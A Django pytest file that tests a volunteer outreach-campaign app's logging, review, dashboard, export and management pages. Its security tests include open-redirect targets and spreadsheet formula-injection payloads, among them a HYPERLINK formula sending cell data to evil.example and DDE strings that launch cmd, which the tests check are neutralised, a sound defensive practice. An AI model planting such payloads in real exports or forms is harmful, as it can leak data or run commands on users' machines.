"""The pages of volunteers and coordinators, as a person uses them."""

import csv
import io
from datetime import timedelta

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from campaigns.models import SessionLog, Status
from core.audit import AuditAction
from core.models import AuditLog
from reach.models import Watermark
from reach.services import reach_refresh
from tests.campaigns.factories import (
    CampaignFactory,
    SessionLogFactory,
    coordinator_of,
    jpeg_bytes,
    volunteer_in,
)
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def volunteer(campaign, regions):
    return volunteer_in(campaign, regions["congjiang"])


def test_the_form_defaults_to_the_volunteers_county(client, volunteer):
    client.force_login(volunteer)
    page = client.get("/campaigns/log/").content.decode()
    campaign_id = volunteer.campaign_assignments.get().team.campaign_id
    assert (
        f'<option value="522633" selected data-campaigns="{campaign_id}">'
        "从江县（黔东南苗族侗族自治州）</option>"
    ) in page
    assert 'src="/static/js/session-log.' in page


def test_without_javascript_the_form_saves_the_log_and_its_photos(client, volunteer, campaign):
    client.force_login(volunteer)
    from django.core.files.uploadedfile import SimpleUploadedFile

    answer = client.post(
        "/campaigns/log/",
        {
            "campaign": campaign.pk,
            "county": "522633",
            "held_on": str(timezone.localdate()),
            "venue_type": "market",
            "venue_name": "丙妹镇集市",
            "attendees_elderly": "40",
            "attendees_students": "0",
            "attendees_farmers": "25",
            "attendees_women": "10",
            "attendees_other": "0",
            "photos": [
                SimpleUploadedFile("a.jpg", jpeg_bytes(), "image/jpeg"),
                SimpleUploadedFile("notes.txt", b"hello", "text/plain"),
            ],
        },
        follow=True,
    )
    log = SessionLog.objects.get()
    assert (log.attendees_total, log.photos.count()) == (75, 1)
    page = answer.content.decode()
    assert "丙妹镇集市" in page
    assert "notes.txt" in page  # the refused file is named, the log is kept


def test_a_volunteer_sees_the_reason_their_log_was_rejected(client, volunteer, campaign, regions):
    SessionLogFactory(
        campaign=campaign,
        volunteer=volunteer,
        county=regions["congjiang"],
        status=Status.REJECTED,
        review_note="照片里看不到签到表",
    )
    client.force_login(volunteer)
    page = client.get("/campaigns/mine/").content.decode()
    assert "照片里看不到签到表" in page
    assert "status-rejected" in page


def test_a_learner_cannot_open_the_volunteer_form(client):
    from tests.factories import UserFactory

    client.force_login(UserFactory())
    assert client.get("/campaigns/log/").status_code == 403


def test_the_service_worker_is_served_for_the_campaign_pages(client):
    answer = client.get("/campaigns/sw.js")
    assert answer.status_code == 200
    assert answer["Content-Type"].startswith("text/javascript")
    assert answer["Service-Worker-Allowed"] == "/campaigns/"
    assert b"caches.open" in answer.content


def test_a_coordinator_sees_only_their_own_campaigns_logs(client, campaign, regions):
    mine = coordinator_of(campaign)
    other_campaign = CampaignFactory()
    SessionLogFactory(campaign=campaign, county=regions["leishan"], venue_name="我的村")
    SessionLogFactory(campaign=other_campaign, county=regions["leishan"], venue_name="别人的村")
    client.force_login(mine)

    page = client.get("/campaigns/review/").content.decode()

    assert "我的村" in page and "别人的村" not in page
    assert client.get(f"/campaigns/{other_campaign.pk}/").status_code == 404


def test_approving_a_log_writes_an_audit_row(client, campaign, regions):
    coordinator = coordinator_of(campaign)
    log = SessionLogFactory(campaign=campaign, county=regions["leishan"])
    client.force_login(coordinator)

    client.post(f"/campaigns/review/{log.pk}/", {"decision": "approved"})

    log.refresh_from_db()
    assert (log.status, log.reviewed_by) == (Status.APPROVED, coordinator)
    audit = AuditLog.objects.get(action=AuditAction.SESSION_LOG_APPROVED)
    assert (audit.actor, audit.target_id) == (coordinator, str(log.pk))


@pytest.mark.parametrize(
    "target",
    ["https://evil.example/", "//evil.example/campaigns/", "javascript:alert(1)", "http:/evil"],
)
@pytest.mark.parametrize("decision", [{"decision": "approved"}, {"decision": "rejected"}])
def test_the_review_form_never_redirects_off_the_site(client, campaign, regions, target, decision):
    # Given a review posted with a next= that points elsewhere (valid, or invalid: no note)
    client.force_login(coordinator_of(campaign))
    log = SessionLogFactory(campaign=campaign, county=regions["leishan"])

    answer = client.post(f"/campaigns/review/{log.pk}/", {**decision, "next": target})

    # Then the browser goes back to the review queue, or stays on it to see the card's error
    if decision["decision"] == "approved":
        assert answer.status_code == 302
        assert answer["Location"] == "/campaigns/review/#queue"
    else:
        assert answer.status_code == 400
        assert "Location" not in answer
        assert target not in answer.content.decode()


def test_the_review_form_returns_to_the_filtered_queue_it_came_from(client, campaign, regions):
    client.force_login(coordinator_of(campaign))
    log = SessionLogFactory(campaign=campaign, county=regions["leishan"])
    back = f"/campaigns/review/?campaign={campaign.pk}&status=pending"

    answer = client.post(f"/campaigns/review/{log.pk}/", {"decision": "approved", "next": back})

    assert answer["Location"] == back + "#queue"


def test_rejecting_needs_a_reason_which_the_volunteer_then_sees(client, campaign, regions):
    coordinator = coordinator_of(campaign)
    log = SessionLogFactory(campaign=campaign, county=regions["leishan"])
    client.force_login(coordinator)

    client.post(f"/campaigns/review/{log.pk}/", {"decision": "rejected", "note": ""})
    log.refresh_from_db()
    assert log.status == Status.PENDING
    assert not AuditLog.objects.filter(action__startswith="session_log.").exists()

    client.post(f"/campaigns/review/{log.pk}/", {"decision": "rejected", "note": "日期不对"})
    log.refresh_from_db()
    assert (log.status, log.review_note) == (Status.REJECTED, "日期不对")
    assert AuditLog.objects.filter(action=AuditAction.SESSION_LOG_REJECTED).count() == 1


def test_a_coordinator_of_another_campaign_cannot_review(client, campaign, regions):
    outsider = coordinator_of(CampaignFactory())
    log = SessionLogFactory(campaign=campaign, county=regions["leishan"])
    client.force_login(outsider)

    assert client.post(f"/campaigns/review/{log.pk}/", {"decision": "approved"}).status_code == 404
    log.refresh_from_db()
    assert log.status == Status.PENDING


def test_the_review_queue_shows_flags_in_a_fixed_number_of_queries(
    client, campaign, regions, django_assert_max_num_queries
):
    coordinator = coordinator_of(campaign)
    for n in range(10):
        SessionLogFactory(
            campaign=campaign,
            county=regions["leishan"],
            flags=["too_many_attendees"],
            venue_name=f"村{n}",
        )
    client.force_login(coordinator)

    # session, user, 2 permissions, total, page of logs, photos, campaigns, counties and
    # volunteers of the filters
    with django_assert_max_num_queries(10):
        page = client.get("/campaigns/review/").content.decode()

    assert page.count('<li class="flag">⚠ 参加人数远超') == 10


def approved(campaign, county, people, days_ago=1, **kwargs):
    return SessionLogFactory(
        campaign=campaign,
        county=county,
        status=Status.APPROVED,
        attendees_elderly=people,
        attendees_total=people,
        held_on=timezone.localdate() - timedelta(days=days_ago),
        **kwargs,
    )


def test_the_dashboard_shows_coverage_and_reach_per_area(
    client, campaign, regions, django_assert_num_queries
):
    # Given three target counties, two approved sessions in one of them, one pending
    from reach.selectors import campaign_dashboard

    approved(campaign, regions["leishan"], 30)
    approved(campaign, regions["leishan"], 20, days_ago=9)
    SessionLogFactory(campaign=campaign, county=regions["kaiyang"], attendees_total=99)
    reach_refresh()  # what the periodic task does: the figures come from the summary tables

    # When the figures are read, in a fixed number of queries
    with django_assert_num_queries(8):
        nation = campaign_dashboard(campaign=campaign)
        list(nation.not_reached)

    # Then a third of the counties is reached, with 2 sessions and 50 people
    assert (nation.reached, nation.targets, nation.coverage_percent) == (1, 3, 33)
    assert (nation.sessions, nation.people, nation.pending) == (2, 50, 1)
    assert [(r.name, r.reached, r.targets) for r in nation.rows] == [("贵州省", 1, 3)]
    assert {c.name for c in nation.not_reached} == {"从江县", "开阳县"}
    province = campaign_dashboard(campaign=campaign, area=regions["guizhou"])
    assert [(r.name, r.reached, r.targets) for r in province.rows] == [
        ("贵阳市", 0, 1),
        ("黔东南苗族侗族自治州", 1, 2),
    ]
    prefecture = campaign_dashboard(campaign=campaign, area=regions["qiandongnan"])
    assert [(r.name, r.sessions, r.people) for r in prefecture.rows] == [
        ("从江县", 0, 0),
        ("雷山县", 2, 50),
    ]


def test_the_dashboard_page_drills_down_from_nation_to_prefecture(client, campaign, regions):
    approved(campaign, regions["leishan"], 30)
    reach_refresh()
    client.force_login(coordinator_of(campaign))

    nation = client.get(f"/campaigns/{campaign.pk}/").content.decode()
    assert '<a href="?area=520000">贵州省</a>' in nation
    province = client.get(f"/campaigns/{campaign.pk}/?area=520000").content.decode()
    assert '<a href="?area=522600">黔东南苗族侗族自治州</a>' in province
    prefecture = client.get(f"/campaigns/{campaign.pk}/?area=522600").content.decode()
    assert "雷山县" in prefecture and "<svg" in prefecture


def test_the_dashboard_lags_the_sources_until_the_refresh_and_says_so(client, campaign, regions):
    # Given figures refreshed at a known time, then a session approved after that refresh
    approved(campaign, regions["leishan"], 30)
    reach_refresh()
    approved(campaign, regions["congjiang"], 12)
    client.force_login(coordinator_of(campaign))
    as_of = timezone.localtime(Watermark.objects.get(name="reach").updated_at)

    # When the coordinator opens the dashboard
    before = client.get(f"/campaigns/{campaign.pk}/", HTTP_ACCEPT_LANGUAGE="en").content.decode()

    # Then it shows the figures of the last refresh and says when that was
    assert f"Figures as of {as_of:%H:%M}" in before
    assert "1 of 3 target counties reached" in before
    # and after the next refresh the new session is counted
    reach_refresh()
    after = client.get(f"/campaigns/{campaign.pk}/", HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "2 of 3 target counties reached" in after


def test_before_the_first_refresh_the_dashboard_says_figures_are_coming(client, campaign):
    client.force_login(coordinator_of(campaign))

    page = client.get(f"/campaigns/{campaign.pk}/", HTTP_ACCEPT_LANGUAGE="en").content.decode()

    assert "The figures have not been computed yet" in page
    assert "0 of 3 target counties reached" in page


def test_sessions_export_as_csv_with_chinese_intact(client, campaign, regions):
    approved(campaign, regions["leishan"], 30, venue_name="西江村村委会")
    client.force_login(coordinator_of(campaign))

    answer = client.get(f"/campaigns/{campaign.pk}/export/sessions.csv")

    text = b"".join(answer.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 2
    assert rows[1][2:6] == ["贵州省", "黔东南苗族侗族自治州", "522634", "雷山县"]
    assert "西江村村委会" in rows[1]


def test_county_figures_export_as_xlsx(client, campaign, regions):
    approved(campaign, regions["leishan"], 30)
    approved(campaign, regions["leishan"], 12)
    client.force_login(coordinator_of(campaign))

    answer = client.get(f"/campaigns/{campaign.pk}/export/counties.xlsx")

    sheet = load_workbook(io.BytesIO(b"".join(answer.streaming_content))).active
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert len(rows) == 4  # header and the three target counties
    assert rows[3][:6] == ["522634", "雷山县", "黔东南苗族侗族自治州", "贵州省", 2, 42]


HOSTILE = {
    "venue_name": '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "topics": "+1+cmd|' /C calc'!A0",
    "display_name": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _hostile_log(campaign, regions):
    volunteer = UserFactory(display_name=HOSTILE["display_name"])
    return approved(
        campaign,
        regions["leishan"],
        30,
        venue_name=HOSTILE["venue_name"],
        topics=HOSTILE["topics"],
        volunteer=volunteer,
    )


def test_text_typed_by_a_volunteer_never_becomes_a_formula_in_the_csv(client, campaign, regions):
    # Given a log whose every typed text starts like a formula
    _hostile_log(campaign, regions)
    client.force_login(coordinator_of(campaign))

    # When the coordinator exports the sessions as CSV
    answer = client.get(f"/campaigns/{campaign.pk}/export/sessions.csv")

    # Then each such cell opens as the text typed, marked with a leading apostrophe
    rows = list(csv.reader(io.StringIO(b"".join(answer.streaming_content).decode("utf-8-sig"))))
    for typed in HOSTILE.values():
        assert "'" + typed in rows[1]
        assert typed not in rows[1]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in rows[1])


def test_text_typed_by_a_volunteer_is_text_in_the_xlsx(client, campaign, regions):
    _hostile_log(campaign, regions)
    client.force_login(coordinator_of(campaign))

    answer = client.get(f"/campaigns/{campaign.pk}/export/sessions.xlsx")

    sheet = load_workbook(io.BytesIO(b"".join(answer.streaming_content))).active
    cells = {c.value: c for c in next(sheet.iter_rows(min_row=2, max_row=2))}
    for typed in HOSTILE.values():
        assert cells[typed].data_type == "s"  # a string cell, exactly as typed; never "f"
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_another_coordinator_cannot_export(client, campaign):
    client.force_login(coordinator_of(CampaignFactory()))
    assert client.get(f"/campaigns/{campaign.pk}/export/sessions.csv").status_code == 404


def test_a_coordinator_adds_a_whole_prefecture_and_assigns_a_volunteer(client, regions):
    # Given a coordinator's campaign over one county, and a volunteer in no campaign yet
    campaign = CampaignFactory()
    campaign.target_counties.set([regions["kaiyang"]])
    coordinator = coordinator_of(campaign)
    from accounts.roles import Role
    from tests.factories import UserFactory

    newcomer = UserFactory(username="xiaowu", roles=[Role.LEARNER, Role.VOLUNTEER])
    client.force_login(coordinator)
    url = f"/campaigns/{campaign.pk}/manage/"

    # When they add Qiandongnan prefecture and put the volunteer in a team for Leishan
    client.post(url, {"action": "regions", "codes": "522600"})
    client.post(
        url, {"action": "assign", "username": "xiaowu", "team_name": "雷山队", "county": "522634"}
    )

    # Then the prefecture's counties are targets, the volunteer's form defaults to Leishan,
    # and both actions are audited
    assert set(campaign.target_counties.values_list("code", flat=True)) == {
        "520121",
        "522633",
        "522634",
    }
    from campaigns.selectors import campaigns_of_volunteer

    assert [c.default_county.code for c in campaigns_of_volunteer(volunteer=newcomer)] == ["522634"]
    assert set(
        AuditLog.objects.filter(target_id=str(campaign.pk)).values_list("action", flat=True)
    ) == {AuditAction.CAMPAIGN_COUNTIES_ADDED, AuditAction.CAMPAIGN_VOLUNTEER_ASSIGNED}
    page = client.get(url).content.decode()
    assert "雷山队" in page and "xiaowu" in page


def test_unknown_codes_and_non_volunteers_get_a_clear_message(client, campaign):
    from tests.factories import UserFactory

    UserFactory(username="learner1")
    client.force_login(coordinator_of(campaign))
    url = f"/campaigns/{campaign.pk}/manage/"

    regions = client.post(url, {"action": "regions", "codes": "999999"}).content.decode()
    assign = client.post(
        url, {"action": "assign", "username": "learner1", "team_name": "队", "county": "522600"}
    ).content.decode()

    assert "999999" in regions and "has-error" in regions
    assert assign.count("has-error") == 2


def test_a_coordinator_cannot_manage_another_campaign(client, campaign):
    client.force_login(coordinator_of(CampaignFactory()))
    answer = client.post(
        f"/campaigns/{campaign.pk}/manage/", {"action": "regions", "codes": "520000"}
    )
    assert answer.status_code == 404
    assert campaign.target_counties.count() == 3


def test_the_campaign_list_takes_as_many_queries_for_many_campaigns_as_for_one(
    client, campaign, django_assert_num_queries
):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    # Given a coordinator of one campaign, whose list page takes some number of queries
    coordinator = coordinator_of(campaign)
    client.force_login(coordinator)
    with CaptureQueriesContext(connection) as one:
        assert campaign.name in client.get("/campaigns/").content.decode()

    # When they coordinate six campaigns
    for n in range(5):
        CampaignFactory(name=f"活动{n}").coordinators.add(coordinator)

    # Then the page lists them all in the same number of queries
    with django_assert_num_queries(len(one)):
        page = client.get("/campaigns/").content.decode()
    assert all(f"活动{n}" in page for n in range(5))


def test_a_refused_plan_shows_the_reason_on_the_page(client, campaign, volunteer):
    # Given a coordinator planning for a volunteer of their campaign
    client.force_login(coordinator_of(campaign))

    # When the county code names a prefecture, not a county
    page = client.post(
        f"/campaigns/{campaign.pk}/manage/",
        {
            "action": "plan",
            "username": volunteer.username,
            "county": "522600",
            "planned_on": str(timezone.localdate() + timedelta(days=3)),
            "venue_type": "school",
            "venue_name": "从江县第一中学",
            "expected_audience": "40",
        },
    ).content.decode()

    # Then the form says why, in the reader's language, and nothing is planned
    assert "没有名称或代码为 522600 的县（区）" in page
    assert not volunteer.planned_sessions.exists()
